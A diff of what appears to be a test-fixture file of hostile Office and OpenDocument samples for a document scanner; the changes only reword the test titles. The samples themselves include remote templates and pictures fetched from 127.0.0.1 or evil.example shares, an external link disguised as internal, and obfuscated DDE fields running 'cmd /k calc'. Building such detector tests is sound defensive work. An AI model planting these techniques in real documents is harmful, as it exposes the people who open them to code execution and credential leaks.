@@ -16,7 +16,7 @@ const remoteTargets = [
   ['a share in character references', '&#92;&#92;evil.example&#92;x.png'],
   ['a share in escapes', '%5C%5Cevil.example%5Cx.png'],
   ['a share behind three slashes', 'file:///%5C%5Cevil.example/x.png'],
-  ['a protocol nobody knows', 'search-ms:query=x'],
+  ['an unknown protocol', 'search-ms:query=x'],
 ] as const
 const instruction = (code: string): string => `<w:r><w:instrText>${code}</w:instrText></w:r>`
 const fieldAround = (code: string): string =>
@@ -28,18 +28,18 @@ const odf = (inside: string): Buffer =>
 /** Office files that fetch something or start a program when they are opened. */
 export const hostileActive: readonly HostileFile[] = [
   [
-    'a template from afar',
+    'a template from the web',
     'a.docx',
     () => relation('attachedTemplate', 'https://127.0.0.1/evil.dotm'),
     'remote_content',
   ],
   [
-    'a template from a neighbour',
+    'a template from a share',
     'a.docx',
     () => relation('attachedTemplate', '\\\\127.0.0.1\\evil.dotm'),
     'remote_content',
   ],
-  ['an object from afar', 'a.docx', () => relation('oleObject', 'file://127.0.0.1/evil.docx'), 'remote_content'],
+  ['an object from a share', 'a.docx', () => relation('oleObject', 'file://127.0.0.1/evil.docx'), 'remote_content'],
   ...remoteTargets.map(
     ([title, target]): HostileFile => [
       `a picture from ${title}`,
@@ -49,7 +49,7 @@ export const hostileActive: readonly HostileFile[] = [
     ],
   ),
   [
-    'a relation that calls itself internal to a careless reader',
+    'an external relation disguised as internal',
     'a.docx',
     () => relation('image', 'https://127.0.0.1/x.png" x:TargetMode="Internal'),
     'remote_content',
@@ -61,7 +61,7 @@ export const hostileActive: readonly HostileFile[] = [
     'remote_content',
   ],
   [
-    'a film from the web on a slide',
+    'a video from the web on a slide',
     'a.pptx',
     () => relation('video', 'https://127.0.0.1/a.mp4', 'ppt/slides/_rels/slide1.xml.rels'),
     'remote_content',
@@ -82,7 +82,7 @@ export const hostileActive: readonly HostileFile[] = [
   ['a DDE field in pieces', 'a.docx', () => docx(field(' D', 'D', 'E ', 'cmd "/k calc"')), 'dde'],
   ['a DDE field behind two thousand spaces', 'a.docx', () => docx(field(' '.repeat(3000), 'DDE cmd')), 'dde'],
   [
-    'a DDE field spelt by another field',
+    'a DDE field spelled by another field',
     'a.docx',
     () =>
       docx(fieldAround(`${fieldAround(instruction('QUOTE 68 68 69 65 85 84 79'))}${instruction(' cmd "/k calc"')}`)),
@@ -112,7 +112,7 @@ export const hostileActive: readonly HostileFile[] = [
   ],
   ['a workbook with a DDE formula', 'a.xlsx', () => xlsx('', "<c><f>cmd|'/c calc'!A0</f></c>"), 'dde'],
   [
-    'an OpenDocument with a picture from afar',
+    'an OpenDocument with a picture from the web',
     'a.odt',
     () => odf('<draw:image xlink:href="https://127.0.0.1/a.png"/>'),
     'remote_content',
@@ -124,7 +124,7 @@ export const hostileActive: readonly HostileFile[] = [
     'remote_content',
   ],
   [
-    'an OpenDocument with an object from afar',
+    'an OpenDocument with an object from a share',
     'a.odt',
     () => odf('<draw:object xlink:href="//evil.example/a.odt"/>'),
     'remote_content',
